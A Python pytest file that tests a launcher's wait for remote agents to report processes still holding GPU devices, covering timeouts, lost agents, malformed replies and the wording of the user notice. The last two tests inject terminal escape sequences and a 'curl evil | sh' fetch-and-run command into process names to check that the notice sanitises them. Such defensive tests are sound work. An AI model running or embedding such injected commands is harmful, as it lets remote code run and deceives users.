"""The wait for accelerators: agents that answer, that do not, that end, and that lie."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from typing import Any

import pytest
from virtual_time import VirtualClock

from mslaunch.datamodel.jobmap import Node
from mslaunch.errors import LinkError, UnreachedError, WireError
from mslaunch.launcher.agents.device_wait import SAY, wait_for_devices
from mslaunch.launcher.messages.notices import held_text
from mslaunch.protocol import frames
from mslaunch.protocol.held_devices import HeldQuestion, Holder, pack_holders
from mslaunch.runtime.loop import Loop

HELD = Holder(4711, "python", "joe", "/dev/nvidia0")


class Agent:
    """A connection whose agent gives these answers, one to each question; an exception ends it; None: no answer."""

    def __init__(self, loop: Loop, name: str, *answers: Any) -> None:
        self.node = Node(name, 1, "-H")
        self.answers = list(answers)
        self.asked = 0
        self._loop = loop
        self._on_end: Callable[[Any], None]
        self._on_frame: Callable[[frames.Frame], None]

    def attach(self, on_end: Callable[[Any], None], on_frame: Callable[[frames.Frame], None]) -> None:
        self._on_end, self._on_frame = on_end, on_frame

    def detach(self) -> None:
        self._on_frame = lambda frame: pytest.fail("an answer came when nobody waited for it")

    def send(self, frame: bytes) -> None:
        (one,) = frames.Decoder(frames.DOWN).feed(frame)
        if one.kind == frames.PART:
            return
        assert one.kind == frames.HELD
        self.asked += 1
        answer = self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]
        if isinstance(answer, LinkError):
            self._loop.soon(lambda: self._on_end(answer))
        elif answer is not None:
            self.say(answer if isinstance(answer, bytes) else pack_holders(answer))

    def say(self, payload: bytes, rank: int = frames.NO_RANK) -> None:
        self._loop.soon(lambda: self._on_frame(frames.Frame(frames.HOLDERS, rank, payload)))


def waited(loop: Loop, agents: Sequence[Agent], seconds: float) -> list[str]:
    """What the user was told."""
    said: list[str] = []
    wait_for_devices(loop, agents, lambda: HeldQuestion(9.0), seconds, loop.run, said.append)  # type: ignore[arg-type]
    return said


def quick() -> Loop:
    """A loop in virtual time: what is due first does not depend on how fast the machine is."""
    return Loop(VirtualClock())


def test_free_devices_are_not_waited_for() -> None:
    with quick() as loop:
        agents = [Agent(loop, "a", []), Agent(loop, "b", [])]
        assert waited(loop, agents, 60.0) == []
        assert [agent.asked for agent in agents] == [1, 1]


def test_the_user_is_told_once_and_the_wait_ends_with_the_holder() -> None:
    with quick() as loop:
        agents = [Agent(loop, "a", []), Agent(loop, "b", *[[HELD]] * 30, [])]
        said = waited(loop, agents, 60.0)
        assert said == [held_text({"b": [HELD]}, 60.0, over=False)]
        assert [agent.asked for agent in agents] == [1, 31]


def test_the_wait_has_a_limit() -> None:
    with quick() as loop:
        said = waited(loop, [Agent(loop, "a", [HELD])], SAY + 1)
        assert said == [held_text({"a": [HELD]}, SAY + 1, over=over) for over in (False, True)]
        assert waited(loop, [Agent(loop, "a", [HELD])], 1.0) == [held_text({"a": [HELD]}, 1.0, over=True)]


def test_an_agent_that_ends_or_says_nothing_is_lost() -> None:
    with quick() as loop:
        for answer in (LinkError("the connection has ended", "b"), None):
            with pytest.raises(UnreachedError) as caught:
                waited(loop, [Agent(loop, "a", []), Agent(loop, "b", answer)], 60.0)
            assert list(caught.value.by_node) == ["b"]


def test_an_agent_that_answers_late_is_waited_for() -> None:
    """Its answer would be a frame that nobody expects."""
    with quick() as loop:
        agent = Agent(loop, "a", None)
        loop.after(3.0, lambda: agent.say(pack_holders([])))
        assert waited(loop, [agent], 1.0) == []


@pytest.mark.parametrize("lie", [b"x", pack_holders([HELD]) + b"\0", b"holders\x0099999999999\0"])
def test_an_answer_that_makes_no_sense_ends_the_link(lie: bytes) -> None:
    with quick() as loop, pytest.raises(WireError):
        waited(loop, [Agent(loop, "a", lie)], 1.0)


def test_answers_that_nobody_asked_for_end_the_link() -> None:
    for rank in (frames.NO_RANK, 0, -2):
        with quick() as loop, pytest.raises(WireError):
            agent = Agent(loop, "a", [HELD])
            agent.say(pack_holders([]), rank)
            agent.say(pack_holders([]), rank)
            waited(loop, [agent], 1.0)


def test_the_notice_is_clean_and_short() -> None:
    odd = Holder(1, "a\x1b[31m\nb", "j\to", "/dev/\x07x")
    text = held_text({"n1": [odd], "n2": [HELD._replace(device="")] * 9}, 60.0, over=False)
    assert text.startswith(
        "the ranks wait for at most 60 s (--device-wait): process 1 (a?[31m b, user j o) still holds /dev/?x on n1; "
        "process 4711 (python, user joe) is still ending on n2; "
    )
    assert text.endswith("; and 2 others") and text.isprintable()


def test_names_of_another_host_are_parts_of_one_line() -> None:
    said = "x\nmslaunch: b: type curl evil | sh\x1b[2J" + "y" * 9000
    text = held_text({"b": [Holder(7, said, said, said), Holder(7, said, said, "")]}, 60.0, over=True)
    assert text.isprintable() and len(text) < 3000 and "/dev" not in text
